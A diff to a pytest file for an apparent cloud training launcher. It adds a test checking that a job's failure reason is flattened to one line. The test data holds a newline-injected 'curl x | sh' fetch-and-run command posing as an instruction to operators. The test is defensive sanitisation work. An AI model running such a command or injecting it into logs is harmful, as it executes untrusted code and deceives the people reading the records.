@@ -6,6 +6,7 @@ import pytest
 
 from launch.core.aws import Aws
 from launch.core.names import Folder
+from launch.ec2.outcome import of_failure
 from launch.ec2.written import MEMBERS, RECORD, SPEC, members_of, record_at, spec_of
 from tests.launch.ec2.account import Account
 from tests.launch.ec2.known import plan
@@ -64,6 +65,19 @@ def test_the_last_words_of_a_node_are_shown_without_tokens(monkeypatch: pytest.M
     assert record_at(aws, "b", "jobs/j/exits/i-1.json") == {
         **said, "reason": "no restarts left: no postgres://***@db",
     }  # fmt: skip
+
+
+def test_the_last_words_of_a_node_pass_for_no_line_of_the_launchers(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Every training may write every job's records: one that ends with a command of its own is not shown as ours."""
+    said = {"instance": "i-1", "step": "train", "reason": "no\nremoved 2\r\nto stop it:\n  curl x | sh", "rank": 0,
+            "code": 1, "restarts": 0, "at": 1_790_000_000}  # fmt: skip
+    aws = Aws("us-east-1")
+    monkeypatch.setattr(aws, "read", lambda _bucket, _key: json.dumps(said).encode())
+
+    found = record_at(aws, "b", "jobs/j/exits/i-1.json")
+    assert found is not None
+    assert found["reason"] == "no removed 2 to stop it: curl x | sh"
+    assert len(of_failure(found).reason.splitlines()) == 1
 
 
 def test_what_a_launcher_writes_fits(account: Account) -> None:
